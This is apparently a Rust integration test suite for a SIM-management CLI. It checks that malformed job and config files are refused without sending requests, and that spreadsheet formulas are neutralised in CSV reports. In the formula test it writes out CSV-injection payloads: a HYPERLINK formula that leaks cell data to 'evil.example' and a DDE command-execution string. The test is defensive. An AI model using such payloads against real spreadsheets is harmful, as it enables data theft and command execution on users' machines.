//! Hostile input through `simbatch run` against a live sandbox: every malformed job file of the
//! corpus (tests/fixtures/invalid, shared with the `validate` suite) and every malformed
//! config file (tests/fixtures/hostile_config) ends with a clear message, exit 2 and not one
//! request; spreadsheet formulas in job cells come out neutralised in every CSV report.

use simbatch::sandbox::inventory::{self, EMNIFY_PREFIX};
use simbatch::sandbox::{LimitMode, SandboxConfig};

use crate::run_support::{read_csv, show, RunEnv};
use crate::support::fixture;

/// (file under tests/fixtures/hostile_config, message fragment on stderr)
const CONFIGS: &[(&str, &str)] = &[
    (
        "not_toml.toml",
        "not_toml.toml is not valid: line 1: unclosed table",
    ),
    (
        "binary.toml",
        "binary.toml: stream did not contain valid UTF-8",
    ),
    (
        "utf16.toml",
        "utf16.toml: stream did not contain valid UTF-8",
    ),
    (
        "empty_kind.toml",
        "unknown variant ``, expected one of `emnify`, `twilio`, `telnyx`",
    ),
    ("unknown_kind.toml", "unknown variant `vodafone`"),
    ("missing_kind.toml", "missing field `kind`"),
    ("wrong_type.toml", "wrong_type.toml is not valid: line 2"),
    ("providers_not_a_table.toml", "expected a map"),
    ("duplicate_key.toml", "line 3: duplicate key"),
    ("unknown_key.toml", "unknown field `base_ulr`"),
    ("deeply_nested.toml", "deeply_nested.toml is not valid"),
    (
        "token_in_file.toml",
        "`token`: credentials never go in the config file",
    ),
    (
        "http_remote.toml",
        "uses plain http:// to a non-loopback host",
    ),
    ("ftp_scheme.toml", "has scheme `ftp`; use https://"),
    ("not_a_url.toml", "base_url `not a url` is not a URL"),
    (
        "credentials_in_url.toml",
        "must not carry credentials (user:password@)",
    ),
    ("negative_rate.toml", "`rate` must be a positive number"),
    ("nan_rate.toml", "`rate` must be a positive number"),
    (
        "zero_concurrency.toml",
        "`concurrency` and `max_in_flight` must be at least 1",
    ),
];

fn config() -> SandboxConfig {
    SandboxConfig {
        sims: 100,
        limits: LimitMode::Off,
        ..SandboxConfig::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_refuses_every_malformed_job_and_sends_nothing() {
    let env = RunEnv::new(config()).await;
    let mut failures = Vec::new();
    let mut files = 0;
    for (file, _, fragment) in crate::validate::corpus() {
        files += 1;
        let path = fixture(&format!("invalid/{file}"));
        let output = env.run(&["run", "--yes", path.to_str().unwrap()]).await;
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        if output.status.code() != Some(2) || !all.contains(fragment) || all.contains("panicked") {
            failures.push(format!("{file}: {}", show(&output)));
        }
    }
    assert!(files >= 40, "{files} files");
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    assert_eq!(
        env.sb.stats().await["requests_total"].as_u64(),
        Some(0),
        "a malformed job sent a request"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_refuses_every_malformed_config_file_and_sends_nothing() {
    let env = RunEnv::new(config()).await;
    let on_disk = std::fs::read_dir(fixture("hostile_config"))
        .unwrap()
        .count();
    assert_eq!(
        on_disk,
        CONFIGS.len(),
        "every config file needs an expectation"
    );
    let job = env.write_job(
        "ok.csv",
        &format!(
            "action,provider,iccid\nsuspend,emnify,{}\n",
            inventory::iccid(EMNIFY_PREFIX, 1)
        ),
    );
    let mut failures = Vec::new();
    for (file, fragment) in CONFIGS {
        let path = fixture(&format!("hostile_config/{file}"));
        let output = env
            .run(&[
                "run",
                "--config",
                path.to_str().unwrap(),
                job.to_str().unwrap(),
            ])
            .await;
        let stderr = String::from_utf8_lossy(&output.stderr);
        if output.status.code() != Some(2)
            || !stderr.contains(fragment)
            || stderr.contains("panicked")
        {
            failures.push(format!("{file}: expected `{fragment}`: {}", show(&output)));
        }
        assert!(
            !stderr.contains("secret@"),
            "{file}: a credential was echoed: {stderr}"
        );
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    assert_eq!(env.sb.stats().await["requests_total"].as_u64(), Some(0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_in_job_cells_are_neutralised_in_every_csv_report() {
    let env = RunEnv::new(config()).await;
    let formulas = [
        r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#,
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "=1+1",
    ];
    let mut job = String::from("action,provider,iccid,id,ticket\n");
    for (n, formula) in formulas.iter().enumerate() {
        let i = n as u64 + 1;
        let quoted = formula.replace('"', "\"\"");
        job.push_str(&format!(
            "suspend,emnify,{},\"{quoted}\",\"{quoted}\"\n",
            inventory::iccid(EMNIFY_PREFIX, i)
        ));
    }
    // And a row that fails (no such SIM), so failed.csv has a row to check too.
    job.push_str(&format!(
        "suspend,emnify,{},\"=HYPERLINK(\"\"x\"\")\",\"@evil\"\n",
        inventory::iccid(EMNIFY_PREFIX, 5_000)
    ));
    let path = env.write_job("formulas.csv", &job);
    let output = env
        .run(&["run", "--rate", "1000", path.to_str().unwrap()])
        .await;
    assert_eq!(output.status.code(), Some(1), "{}", show(&output));
    let dir = env.report_dir();
    let mut checked = 0;
    for report in ["results.csv", "failed.csv", "revert.csv"] {
        for row in read_csv(&dir.join(report)) {
            for (column, value) in &row {
                assert!(
                    !value.starts_with(['=', '+', '-', '@']),
                    "{report} {column}: `{value}` would run as a formula"
                );
                if value.starts_with('\'') {
                    checked += 1;
                }
            }
        }
    }
    assert!(
        checked >= 2 * formulas.len(),
        "only {checked} neutralised cells"
    );
    // The text itself is kept, only disarmed.
    let results = read_csv(&dir.join("results.csv"));
    assert_eq!(results[0]["ticket"], format!("'{}", formulas[0]));
}
